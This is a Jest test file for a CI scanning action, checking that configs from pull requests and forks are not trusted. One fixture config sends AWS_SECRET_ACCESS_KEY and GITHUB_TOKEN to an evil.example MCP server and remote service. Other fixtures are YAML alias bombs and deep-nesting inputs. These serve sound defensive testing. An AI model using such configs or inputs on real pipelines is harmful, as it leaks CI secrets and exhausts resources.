// biome-ignore-all lint/suspicious/noTemplateCurlyInString: configs hold such texts
// Design §8, "Whose word counts": configs. Each line of it through the built action.

import { describe, expect, test } from '@jest/globals';
import { pull, removeWorlds } from './pull.ts';
import type { RunResult } from './runner.ts';
import { config, HARMLESS, launch, RULE } from './samples.ts';

removeWorlds();

const NEW = { 'tools/.mcp.json': launch('new') };
const HOSTILE = config(
  'mcp: { servers: [{ name: evil, url: "https://evil.example/mcp", headers: { X: "${AWS_SECRET_ACCESS_KEY}" } }] }',
  'remote: { service: trusera, url: "https://evil.example", key: "${GITHUB_TOKEN}" }',
  'rules: { packs: [evil-rules.yaml] }',
);
const SECRETS = { AWS_SECRET_ACCESS_KEY: 'a-secret-of-the-environment', GITHUB_TOKEN: 'ghs_thetokenofthisjob' };

function verdictOf({ exitCode, outputs, stdout }: RunResult): [number | null, string | undefined, string] {
  return [exitCode, outputs.conclusion, stdout.trimEnd().split('\n').at(-1) ?? ''];
}

function expectFailure(result: RunResult): void {
  expect(verdictOf(result)).toEqual([1, 'fail', expect.stringContaining('Failed: 1 new finding')]);
}

/** Exit 2, said as an annotation and as the conclusion. */
function expectRefusal(result: RunResult, words: string): void {
  expect(result.exitCode).toBe(2);
  expect(result.outputs).toEqual({ conclusion: 'error' });
  expect(result.annotations).toEqual([
    expect.objectContaining({ name: 'error', message: expect.stringContaining(words) }),
  ]);
}

describe('a found config', () => {
  const hostile = pull({ base: { 'a.txt': 'a' }, head: { 'bartizan.yml': HOSTILE, ...NEW } });

  test.each([
    ['release', { as: 'release', at: 'head' }],
    ['an event nobody knows', { as: 'unknown', at: 'head' }],
    ['schedule, where another state was checked out', { as: 'schedule', at: 'head', sha: hostile.world.base }],
    ['a pull request inside the repository', {}],
    ['a pull request of a fork', { as: 'pull_request-fork' }],
    ['workflow_run', { as: 'workflow_run', at: 'head', sha: hostile.world.base }],
  ] as const)('names no destination, secret or rule pack: %s', (_name, options) => {
    const result = hostile.run({ ...options, env: SECRETS });
    expect(result.exitCode).not.toBe(2);
    for (const key of ['mcp\\\\?.servers', 'remote', 'rules\\\\?.packs'])
      expect(result.summary).toMatch(new RegExp(`Not honoured: .*: ${key} was not honoured`));
    // Neither looked up nor shown: the run does not even say that there is no such rule pack.
    for (const secret of Object.values(SECRETS))
      expect(result.stdout + result.summary + result.sarifText).not.toContain(secret);
  });

  test('on the repository itself it counts whole', () => {
    expectRefusal(hostile.run({ as: 'push', at: 'head' }), 'cannot read the rule pack evil-rules.yaml');
    expectRefusal(hostile.run({ as: 'schedule', at: 'head' }), 'cannot read the rule pack evil-rules.yaml');
  });
});

describe('an explicit config', () => {
  const lax = pull({
    base: { 'ci/scan.yml': config('gate: { fail-on: low }'), 'a.txt': 'a' },
    head: { 'ci/scan.yml': config('gate: { fail-on: none }'), ...NEW },
  });

  test.each(['same', 'fork'] as const)('inside the workspace it is read from the base: %s', (whose) => {
    expect(verdictOf(lax[whose]({ inputs: { 'config-file': 'ci/scan.yml' } }))).toEqual([
      1,
      'fail',
      'Failed: 1 new finding ≥ low',
    ]);
    expect(lax[whose]({ inputs: { 'config-file': `${lax.workspace()}/ci/scan.yml` } }).exitCode).toBe(1);
  });

  test('outside it is taken as it is, and so on a push', () => {
    const outside = pull({ base: { 'x.yml': config('gate: { fail-on: none }') }, head: { b: '' } }).workspace();
    expect(lax.fork({ inputs: { 'config-file': `${outside}/x.yml` } }).exitCode).toBe(0);
    expect(lax.run({ as: 'push', at: 'head', inputs: { 'config-file': 'ci/scan.yml' } }).exitCode).toBe(0);
  });

  test('only the named file is looked for in the base', () => {
    const other = pull({
      base: { 'bartizan.yml': config('gate: { fail-on: none }') },
      head: { 'ci/scan.yml': config('gate: { fail-on: low }'), ...NEW },
    });
    expectFailure(other.fork({ inputs: { 'config-file': 'ci/scan.yml' } }));
    expect(other.same({ inputs: { 'config-file': 'ci/scan.yml' } }).stdout).toContain(
      'ci/scan.yml is new in this pull request',
    );
  });

  test('one that is nowhere is exit 2', () => {
    for (const whose of ['same', 'fork'] as const)
      expectRefusal(lax[whose]({ inputs: { 'config-file': 'ci/scna.yml' } }), 'there is no config file ci/scna.yml');
  });
});

describe('a pull request that changes the config', () => {
  test.each([
    ['the gate', 'gate: { fail-on: none }', 'gate.fail-on'],
    ['a rule', `rules: { disable: [${RULE}] }`, 'rules.disable'],
    ['what is looked at', 'exclude: ["tools/**"]', 'exclude'],
    ['what is included', 'include: ["a.txt"]', 'include'],
    ['a severity', `rules: { severity: { ${RULE}: low } }`, 'rules.severity'],
    ['the confidence', 'gate: { min-confidence: high, new-only: false, incomplete: fail }', 'gate.min-confidence'],
  ])('loosens %s after the merge, and both verdicts are printed', (_name, line, key) => {
    const { same, fork } = pull({
      base: { 'bartizan.yml': config('show: { min-severity: low }') },
      head: { 'bartizan.yml': config('show: { min-severity: low }', line), ...NEW },
    });
    const result = same();
    expectFailure(result);
    expect(result.summary).toMatch(/After the merge: (?:Passed|Only reporting|Failed)/);
    expect(result.stdout).toContain('After the merge: ');
    expect(result.stdout).toContain(`This pull request changes ${key}`);
    const foreign = fork();
    expectFailure(foreign);
    expect(foreign.summary).toContain('of this pull request was not honoured');
    expect(foreign.summary).not.toContain('After the merge');
  });

  test('removes it after the merge', () => {
    const { same, fork } = pull({
      base: { 'bartizan.yml': config('gate: { fail-on: none }') },
      head: { 'bartizan.yml': undefined, ...NEW },
    });
    expect(verdictOf(fork())).toEqual([0, 'warn', expect.stringContaining('fail-on is none')]);
    expect(same().summary).toContain('After the merge: Failed: 1 new finding');
  });

  test('brings the first one: it is used, and the run only reports', () => {
    const { same, fork } = pull({
      base: { a: '' },
      head: { 'bartizan.yml': config('gate: { fail-on: low }'), ...NEW },
    });
    expect(verdictOf(same())).toEqual([
      0,
      'warn',
      'Only reporting: bartizan.yml is new in this pull request. Would fail: 1 new finding ≥ low',
    ]);
    expectFailure(fork());
  });

  test('does not change what only the base changed since', () => {
    const { same } = pull({
      base: { 'bartizan.yml': config('gate: { fail-on: none }') },
      head: NEW,
      later: { 'bartizan.yml': config('gate: { fail-on: medium }') },
    });
    const result = same({ at: 'head', depth: 0 });
    expect(verdictOf(result)).toEqual([1, 'fail', 'Failed: 1 new finding ≥ medium']);
    expect(result.summary).not.toContain('changes');
  });
});

describe('a config that cannot be used', () => {
  const MALFORMED = config('gate: { fail-on: hihg }');

  test('malformed in the head: exit 2, but not for a fork', () => {
    for (const base of [{ 'bartizan.yml': config('gate: { fail-on: high }') }, { a: '' }]) {
      const { same, fork } = pull({ base, head: { 'bartizan.yml': MALFORMED, ...NEW } });
      expectRefusal(same(), 'line 1   gate.fail-on: "hihg" is not one of');
      const foreign = fork();
      expectFailure(foreign);
      expect(foreign.summary).toContain('bartizan.yml has 1 problem');
    }
  });

  test('malformed in the base: exit 2', () => {
    const { same, fork } = pull({ base: { 'bartizan.yml': MALFORMED }, head: NEW });
    for (const result of [same(), fork()]) expectRefusal(result, 'bartizan.yml has 1 problem');
  });

  test.each([
    [
      'aliases that multiply',
      `x: &a [${'1,'.repeat(500)}]\ny: &b [${'*a,'.repeat(500)}]\nz: [${'*b,'.repeat(500)}]\n`,
      'Aliases make',
    ],
    ['an alias in a circle', 'a: &a [*a]\n', 'circle'],
    ['more than 256 KiB', `# ${'x'.repeat(300_000)}\n`, 'over 262144 bytes'],
    ['endless nesting', `${'['.repeat(5000)}\n`, 'Nested deeper'],
  ])('%s: exit 2, but not for a fork', (_name, text, words) => {
    const { same, fork } = pull({ base: { a: '' }, head: { 'bartizan.yml': text, ...NEW } });
    expectRefusal(same(), words);
    expectFailure(fork());
  });

  test('two of them: exit 2, but not for a fork, which could stop every run so', () => {
    const { run, same, fork } = pull({
      base: { 'bartizan.yml': config('gate: { fail-on: medium }'), '.mcp.json': HARMLESS },
      head: { '.github/bartizan.yml': config('gate: { fail-on: none }'), ...NEW },
    });
    expectRefusal(same(), 'there are 2 config files: bartizan.yml, .github/bartizan.yml');
    expectRefusal(run({ as: 'push', at: 'head' }), 'there are 2 config files');
    const foreign = fork();
    expect(verdictOf(foreign)).toEqual([1, 'fail', 'Failed: 1 new finding ≥ medium']);
    expect(foreign.summary).toContain('there are 2 config files');
  });
});
